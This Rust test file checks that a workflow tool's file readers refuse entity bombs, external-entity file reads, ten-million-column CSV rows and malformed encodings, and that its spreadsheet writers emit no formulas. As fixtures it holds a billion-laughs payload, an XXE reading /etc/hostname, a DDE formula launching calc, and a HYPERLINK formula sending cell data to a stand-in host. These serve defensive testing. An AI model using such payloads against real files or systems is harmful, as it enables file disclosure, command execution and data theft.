//! Files that are made to harm: bombs, entities, formulas, endless rows, wrong encodings. Each is refused or
//! bounded by a limit, nothing in it is computed, and nothing outside of it is read.

use std::io::{Cursor, Read as _};

use expect_test::expect;
use weft_core::workflow::Step;
use weft_core::{Document, Language};
use weft_files::{
    FileError, Limits, Read, read_bpmn, read_csv, read_dot, read_drawio, read_json, read_mermaid,
    read_picture, read_workbook, write_cells, write_csv, write_xlsx,
};
use zip::ZipArchive;

use crate::workbook::packed;

type Reader = fn(&[u8], &Limits) -> Result<Read, FileError>;

/// Every reader of text.
const READERS: [(&str, Reader); 7] = [
    ("json", read_json),
    ("csv", read_csv),
    ("bpmn", read_bpmn),
    ("mermaid", read_mermaid),
    ("dot", read_dot),
    ("drawio", read_drawio),
    ("picture", read_picture),
];

/// Ten entities, each of ten others: a billion laughs.
fn laughs() -> String {
    let more: String = (1..10)
        .map(|at| {
            format!(
                "<!ENTITY a{at} \"{}\">",
                format!("&a{};", at - 1).repeat(10)
            )
        })
        .collect();
    format!("<!DOCTYPE x [<!ENTITY a0 \"ha\">{more}]>")
}

/// A file that stands outside.
const OUTSIDE: &str = "<!DOCTYPE x [<!ENTITY a9 SYSTEM \"file:///etc/hostname\">]>";

/// Where the parts of a workbook are.
fn relations(parts: &[(&str, &str)]) -> String {
    let parts: String = parts
        .iter()
        .enumerate()
        .map(|(at, (kind, part))| {
            format!("<Relationship Id=\"r{at}\" Target=\"{part}\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}\"/>")
        })
        .collect();
    format!("<Relationships>{parts}</Relationships>")
}

/// What comes of a file: the names of its steps, or the first line of the error.
fn outcome(read: Result<Read, FileError>) -> String {
    match read {
        Err(error) => format!(
            "refused: {}",
            error.to_string().lines().next().unwrap_or_default()
        ),
        Ok(read) => {
            let steps = read.document.baseline.steps.iter();
            let names: Vec<&str> = steps.map(|step| step.name.as_str()).collect();
            format!("read: {names:?}")
        }
    }
}

#[test]
fn entities_are_expanded_nowhere() {
    let limits = Limits::default();
    let mut lines = Vec::new();
    for (name, doctype) in [("laughs", laughs()), ("outside", OUTSIDE.to_owned())] {
        let bpmn = format!(
            "{doctype}<definitions xmlns=\"http://www.omg.org/spec/BPMN/20100524/MODEL\"><process><task id=\"a\" name=\"&a9;\"/></process></definitions>"
        );
        let cell = "<mxCell id=\"a\" value=\"&a9;\" vertex=\"1\"/>";
        let drawio = format!("{doctype}<mxGraphModel><root>{cell}</root></mxGraphModel>");
        let picture = format!("{doctype}<svg content=\"&a9;\"/>");
        let metadata = format!(
            "{doctype}<svg><metadata><document xmlns=\"https://weft.work/svg/1\">&a9;</document></metadata></svg>"
        );
        let strings = format!("{doctype}<sst><si><t>step</t></si><si><t>&a9;</t></si></sst>");
        let xlsx = packed(&[
            ("_rels/.rels", relations(&[("officeDocument", "xl/workbook.xml")]).as_bytes()),
            (
                "xl/_rels/workbook.xml.rels",
                relations(&[("worksheet", "sheet1.xml"), ("sharedStrings", "sharedStrings.xml")]).as_bytes(),
            ),
            ("xl/workbook.xml", b"<workbook xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><sheets><sheet name=\"A\" sheetId=\"1\" r:id=\"r0\"/></sheets></workbook>"),
            ("xl/sheet1.xml", b"<worksheet><sheetData><row><c t=\"s\"><v>0</v></c></row><row><c t=\"s\"><v>1</v></c></row></sheetData></worksheet>"),
            ("xl/sharedStrings.xml", strings.as_bytes()),
        ]);
        let row = |words: &str| {
            format!(
                "<table:table-row><table:table-cell office:value-type=\"string\"><text:p>{words}</text:p></table:table-cell></table:table-row>"
            )
        };
        let content = format!(
            "{doctype}<office:document-content xmlns:office=\"o\" xmlns:table=\"t\" xmlns:text=\"x\"><office:body><office:spreadsheet><table:table table:name=\"A\">{}{}</table:table></office:spreadsheet></office:body></office:document-content>",
            row("step"),
            row("&a9;")
        );
        let ods = packed(&[
            (
                "mimetype",
                b"application/vnd.oasis.opendocument.spreadsheet",
            ),
            ("META-INF/manifest.xml", b"<manifest:manifest/>"),
            ("content.xml", content.as_bytes()),
        ]);
        for (format, read) in [
            ("bpmn", read_bpmn(bpmn.as_bytes(), &limits)),
            ("drawio", read_drawio(drawio.as_bytes(), &limits)),
            ("svg of draw.io", read_picture(picture.as_bytes(), &limits)),
            ("svg of ours", read_picture(metadata.as_bytes(), &limits)),
            ("xlsx", read_workbook(&xlsx, &limits)),
            ("ods", read_workbook(&ods, &limits)),
        ] {
            lines.push(format!("{name}, {format}: {}", outcome(read)));
        }
    }
    expect![[r#"
        laughs, bpmn: refused: line 1, column 528: found a document type declaration (DOCTYPE), expected a model without one: entities are never expanded
        laughs, drawio: refused: line 1, column 1: found a document type declaration (DOCTYPE), expected text without entities, which are never expanded
        laughs, svg of draw.io: refused: line 1, column 549: found broken XML: at 1..3: unrecognized entity `a9`, expected an SVG or PNG that Weft wrote with its document, or draw.io with its diagram
        laughs, svg of ours: refused: the file: found a document that cannot be unpacked: incomplete deflate stream, expected an SVG or PNG that Weft wrote with its document, or draw.io with its diagram
        laughs, xlsx: refused: the file: found a broken workbook: Xml error: at 0..0: unrecognized entity `&a9;`, expected a workbook, .xlsx or .ods
        laughs, ods: refused: the file: found a broken workbook: Xml error: at 0..0: unrecognized entity `&a9;`, expected a workbook, .xlsx or .ods
        outside, bpmn: refused: line 1, column 58: found a document type declaration (DOCTYPE), expected a model without one: entities are never expanded
        outside, drawio: refused: line 1, column 1: found a document type declaration (DOCTYPE), expected text without entities, which are never expanded
        outside, svg of draw.io: refused: line 1, column 79: found broken XML: at 1..3: unrecognized entity `a9`, expected an SVG or PNG that Weft wrote with its document, or draw.io with its diagram
        outside, svg of ours: refused: the file: found a document that cannot be unpacked: incomplete deflate stream, expected an SVG or PNG that Weft wrote with its document, or draw.io with its diagram
        outside, xlsx: refused: the file: found a broken workbook: Xml error: at 0..0: unrecognized entity `&a9;`, expected a workbook, .xlsx or .ods
        outside, ods: refused: the file: found a broken workbook: Xml error: at 0..0: unrecognized entity `&a9;`, expected a workbook, .xlsx or .ods
    "#]].assert_eq(&(lines.join("\n") + "\n"));
}

#[test]
fn ten_million_columns_are_refused_wherever_they_stand() {
    let limits = Limits::default();
    let wide = ["step,".repeat(10_000_000), "x,".repeat(10_000_000)];
    for (sheet, place) in [
        (wide[0].clone(), "the header"),
        (format!("step,notes\n{}", wide[1]), "a row"),
        (
            format!("step,notes\n{}", ",".repeat(10_000_000)),
            "an empty row",
        ),
    ] {
        let error = match read_csv(sheet.as_bytes(), &limits) {
            Ok(read) => panic!("{place} is read: {:?}", read.notes),
            Err(error) => error.to_string(),
        };
        assert!(
            [
                "10000001 columns, expected at most 1000",
                "10000001 cells, expected at most 2",
                "no header",
                "a header without rows",
            ]
            .iter()
            .any(|known| error.contains(known)),
            "{place}: {error}"
        );
    }
}

#[test]
fn a_row_of_ten_million_columns_above_the_header_is_left_out() {
    let sheet = format!("{}\nstep,notes\nA,B\n", "x,".repeat(10_000_000));
    let read = read_csv(sheet.as_bytes(), &Limits::default()).expect("what is below is a sheet");
    assert_eq!(
        read.document.baseline.steps.len(),
        1,
        "only what is below is read"
    );
    let says: Vec<&str> = read.notes.iter().map(|note| note.says.as_str()).collect();
    assert_eq!(
        says,
        ["this row stands above the header; it was not read"],
        "and that is said"
    );
}

#[test]
fn text_in_no_known_encoding_is_refused_with_its_place() {
    let limits = Limits::default();
    for (format, read) in READERS {
        // CSV is the one format whose encoding is guessed.
        if format == "csv" {
            continue;
        }
        for bytes in [
            &b"flowchart LR\n  a --> \xFF\xFEb"[..],
            b"<mxfile>\xC3\x28</mxfile>",
            b"\xFF\xFE<\0m\0\x00\xD8",
            b"\xFE\xFF\xD8",
            b"<?xml version=\"1.0\" encoding=\"utf-8\"?><svg a=\"\x80\"/>",
        ] {
            let error = read(bytes, &limits).expect_err("it is no text").to_string();
            assert!(error.contains("expected"), "{format}: {error}");
        }
    }
    // A declared encoding is believed where it fits.
    let latin = b"<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><mxGraphModel><root><mxCell id=\"a\" value=\"Gespr\xE4ch\" vertex=\"1\"/></root></mxGraphModel>";
    let read = read_drawio(latin, &limits).expect("it says what it is in");
    assert_eq!(
        read.document.baseline.steps[0].name, "Gespräch",
        "by its declaration"
    );
    let wide: Vec<u8> = "<mxGraphModel><root><mxCell id=\"a\" value=\"Gespräch\" vertex=\"1\"/></root></mxGraphModel>"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let read = read_drawio(&wide, &limits).expect("two bytes a letter");
    assert_eq!(
        read.document.baseline.steps[0].name, "Gespräch",
        "without a mark"
    );
}

#[test]
fn every_reader_refuses_more_than_its_limit_before_it_reads() {
    let small = Limits {
        json_bytes: 10,
        csv_bytes: 10,
        bpmn_bytes: 10,
        diagram_bytes: 10,
        picture_bytes: 10,
        ..Limits::default()
    };
    for (format, read) in READERS {
        let error = read(b"01234567890", &small).expect_err("too large");
        let is_by_size = matches!(
            error,
            FileError::TooLarge {
                found: 11,
                limit: 10,
                ..
            }
        );
        assert!(is_by_size, "{format}: {error}");
        let error = read(b" \n\t ", &Limits::default()).expect_err("nothing is there");
        assert!(
            error.to_string().contains("the file is empty"),
            "{format}: {error}"
        );
    }
}

/// What spreadsheets compute, or hand to other programs.
const FORMULAS: [&str; 12] = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://a.example/?\"&A1,\"x\")",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1",
    "＋1",
    "－1",
    "＠SUM(A1)",
];

fn with_formulas() -> Document {
    let steps = FORMULAS.iter().enumerate().map(|(at, formula)| Step {
        id: format!("{formula}{at}").as_str().into(),
        name: (*formula).to_owned(),
        goal: Some((*formula).to_owned()),
        notes: Some((*formula).to_owned()),
        roles: vec![(*formula).into()],
        ..Step::default()
    });
    let mut document = Document {
        title: "=1".to_owned(),
        ..Document::default()
    };
    document.baseline.steps = steps.collect();
    document
}

#[test]
fn no_sheet_that_is_written_holds_a_formula() {
    let document = with_formulas();
    let starts = |cell: &str| {
        let first = cell.chars().next();
        first.is_some_and(|first| "=+-@\t\r\n＝＋－＠".contains(first))
    };
    let mut cells = 0;
    for (text, delimiter) in [
        (write_csv(&document), b','),
        (write_cells(&document), b'\t'),
    ] {
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .delimiter(delimiter)
            .from_reader(text.as_bytes());
        for record in reader.records() {
            for cell in &record.expect("we wrote it") {
                assert!(!starts(cell), "a cell is computed: {cell:?}");
                cells += 1;
            }
        }
    }
    assert!(cells > 100, "the cells were looked at: {cells}");

    let book = write_xlsx(&document, None, Language::English).expect("a workbook");
    let mut archive = ZipArchive::new(Cursor::new(book.as_slice())).expect("packed");
    let names: Vec<String> = archive
        .file_names()
        .map(|name| name.expect("a name").into_owned())
        .collect();
    let mut sheets = 0;
    for name in names {
        let mut part = archive.by_name(&name).expect("a part");
        let mut text = String::new();
        part.read_to_string(&mut text).expect("XML");
        if name.starts_with("xl/worksheets/sheet") {
            assert!(
                !text.contains("<f>") && !text.contains("<f "),
                "{name} computes: {text}"
            );
            sheets += 1;
        }
        assert!(!name.contains("externalLink"), "nothing outside is named");
        assert!(
            !text.contains("TargetMode=\"External\""),
            "{name} links outside: {text}"
        );
    }
    assert!(sheets > 0, "the sheets were looked at");
}
